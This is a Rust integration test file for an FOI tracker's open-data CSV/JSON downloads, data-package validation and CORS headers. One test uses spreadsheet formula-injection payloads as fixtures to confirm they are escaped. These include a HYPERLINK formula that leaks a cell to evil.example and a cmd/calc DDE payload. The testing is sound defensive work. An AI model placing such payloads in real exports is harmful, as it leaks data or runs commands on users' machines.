//! The open data: public downloads of every verified figure as tidy CSV and JSON, described by
//! a Frictionless Data Package that the real validator (`frictionless`, from PyPI) accepts;
//! nothing unverified and nothing from a draft. Both backends.

use crate::support;

use crate::support::{browser, TestApp};
use reqwest::StatusCode;
use serde_json::{json, Value};

fn figure(value: &str, suppressed: &str, request: Option<i64>) -> Value {
    let mut body = json!({
        "indicator_id": "D1.1", "value": value, "suppressed": suppressed, "period_start": "2019-01-01",
        "period_end": "2019-09-30", "breakdown": "sex = male", "definition": "People referred to the NRM who were detained",
        "definition_match": "comparable", "caveats": "Some sources give the whole year",
    });
    match request {
        Some(id) => {
            body["source_kind"] = json!("request");
            body["request_id"] = json!(id);
        }
        None => {
            body["source_kind"] = json!("publication");
            body["publication_title"] = json!("Survivors behind bars");
            body["publisher"] = json!("Coalition NGO");
            body["published_on"] = json!("2021-03-01");
            body["url"] = json!("https://example.org/survivors-behind-bars");
        }
    }
    body
}

async fn add(app: &TestApp, checker: Option<&support::Session>, body: Value) {
    let response = app.post_json("/api/v1/figures", &body).await;
    let status = response.status();
    let json: Value = response.json().await.unwrap();
    assert_eq!(status, StatusCode::CREATED, "{json}");
    if let Some(checker) = checker {
        let verified = checker
            .post_json(&format!("/api/v1/figures/{}/verify", json["id"]), &json!({}))
            .await;
        assert_eq!(verified.status(), StatusCode::OK);
    }
}

async fn download(app: &TestApp, path: &str) -> String {
    let response = browser().get(app.url(path)).send().await.unwrap();
    assert_eq!(response.status(), StatusCode::OK, "{path}");
    response.text().await.unwrap()
}

/// Runs the real validator on a data package written to `dir`; its output if it refuses.
fn validate(dir: &std::path::Path) -> Result<(), String> {
    let python = support::python::with_package("frictionless", "frictionless");
    let output = std::process::Command::new(python.with_file_name("frictionless"))
        .args(["validate", "datapackage.json"])
        .current_dir(dir)
        .output()
        .unwrap();
    match output.status.success() {
        true => Ok(()),
        false => Err(String::from_utf8_lossy(&output.stdout).to_string()),
    }
}

on_both_backends! {
    async fn verified_figures_are_published_as_a_valid_data_package(app) {
        let checker = app.member("checker@coalition.example", "researcher", support::ORGANISATION).await;
        let home_office = app.authority("Home Office").await;
        let sent = app.create_request(json!({"title": "Detention of referred people", "body": "B", "authority_id": home_office, "sent_on": "2020-10-01"})).await["id"].as_i64().unwrap();
        let draft = app.create_request(json!({"title": "Not sent", "body": "B", "authority_id": home_office})).await["id"].as_i64().unwrap();
        add(&app, Some(&checker), figure("3,444", "", None)).await;
        add(&app, Some(&checker), figure("", "fewer than 5", Some(sent))).await;
        add(&app, None, figure("658", "", None)).await;
        add(&app, Some(&checker), figure("12", "", Some(draft))).await;

        let csv_text = download(&app, "/open-data/figures.csv").await;
        let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
        let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_string).collect();
        let names: Vec<&str> = foi_tracker::tracker::open_data::OPEN_COLUMNS.iter().map(|c| c.0).collect();
        assert_eq!(header, names);
        let rows: Vec<Vec<String>> = reader
            .records()
            .map(|r| r.unwrap().iter().map(str::to_string).collect())
            .collect();
        assert_eq!(rows.len(), 2, "verified and publishable only: {csv_text}");
        assert_eq!(&rows[0][1..10], ["D1", "D1.1", "People entering immigration detention who are potential or confirmed victims", "3444", "", "people", "2019-01-01", "2019-09-30", "sex=male"]);
        assert_eq!(&rows[0][17..21], ["Survivors behind bars", "Coalition NGO", "2021-03-01", "https://example.org/survivors-behind-bars"]);
        assert_eq!(&rows[1][4..6], ["", "fewer than 5"]);
        assert_eq!(&rows[1][13..16], ["request", "Home Office", sent.to_string().as_str()]);

        let json_rows: Value = serde_json::from_str(&download(&app, "/open-data/figures.json").await).unwrap();
        assert_eq!(json_rows.as_array().unwrap().len(), 2);
        assert_eq!(json_rows[0]["value"], "3444");

        // The package validates; the same package over a broken table does not.
        let package = download(&app, "/open-data/datapackage.json").await;
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("datapackage.json"), &package).unwrap();
        std::fs::write(dir.path().join("figures.csv"), &csv_text).unwrap();
        validate(dir.path()).unwrap();
        std::fs::write(dir.path().join("figures.csv"), csv_text.replace(",3444,", ",a lot,")).unwrap();
        let refused = validate(dir.path()).unwrap_err();
        assert!(refused.contains("type-error"), "{refused}");

        let page = download(&app, "/open-data").await;
        assert!(page.contains("<code>definition_match</code>"), "{page}");
    }

    async fn browser_based_data_tools_on_any_site_may_read_the_downloads(app) {
        let origin = |response: &reqwest::Response| {
            response.headers().get("access-control-allow-origin").map(|v| v.to_str().unwrap().to_string())
        };
        for path in ["/open-data/figures.csv", "/open-data/figures.json", "/open-data/datapackage.json"] {
            let response = browser().get(app.url(path)).header("Origin", "https://data-tool.example").send().await.unwrap();
            assert_eq!(response.status(), StatusCode::OK, "{path}");
            assert_eq!(origin(&response).as_deref(), Some("*"), "{path}");
        }
        // Never a page that may be signed in, nor the API that needs a token.
        for path in ["/open-data", "/scorecard", "/api/v1/requests"] {
            let response = app.session.get(path).await;
            assert_eq!(origin(&response), None, "{path}");
        }
    }

    async fn no_cell_of_a_csv_runs_as_a_formula_in_a_spreadsheet(app) {
        let checker = app.member("checker@coalition.example", "researcher", support::ORGANISATION).await;
        let mut body = figure("12", "", None);
        body["publication_title"] = json!("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")");
        body["definition"] = json!("@SUM(A1:A9)");
        body["caveats"] = json!("-5");
        body["publisher"] = json!("+1+cmd|' /C calc'!A0");
        add(&app, Some(&checker), body).await;

        let csv_text = download(&app, "/open-data/figures.csv").await;
        let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
        let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_string).collect();
        let column = |name: &str| header.iter().position(|h| h == name).unwrap();
        let row: Vec<String> = reader.records().next().unwrap().unwrap().iter().map(str::to_string).collect();
        assert_eq!(row[column("publication_title")], "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")");
        assert_eq!(row[column("definition")], "'@SUM(A1:A9)");
        assert_eq!(row[column("publisher")], "'+1+cmd|' /C calc'!A0");
        // A number stays a number, negative or not.
        assert_eq!(row[column("caveats")], "-5");
        assert_eq!(row[column("value")], "12");
        // JSON is no spreadsheet: it carries the text as entered.
        let json_rows: Value = serde_json::from_str(&download(&app, "/open-data/figures.json").await).unwrap();
        assert_eq!(json_rows[0]["definition"], "@SUM(A1:A9)");

        // The history's exports, from the page and the API, likewise.
        let home_office = app.authority("Home Office").await;
        let id = app
            .create_request(json!({"title": "=HYPERLINK(\"http://evil.example\",\"x\")", "body": "B", "authority_id": home_office, "sent_on": "2026-04-01", "reference": "-12"}))
            .await["id"]
            .as_i64()
            .unwrap();
        for path in ["/history/export?dataset=requests&format=csv", "/api/v1/history/export?dataset=requests&format=csv"] {
            let response = app.get(path).await;
            assert_eq!(response.status(), StatusCode::OK, "{path}");
            let text = response.text().await.unwrap();
            let mut reader = csv::Reader::from_reader(text.as_bytes());
            let row = reader
                .records()
                .map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<String>>())
                .find(|r| r[0] == id.to_string())
                .unwrap_or_else(|| panic!("{text}"));
            assert_eq!(row[9], "'=HYPERLINK(\"http://evil.example\",\"x\")", "{path}");
            assert_eq!(row[10], "-12", "{path}");
        }
    }
}
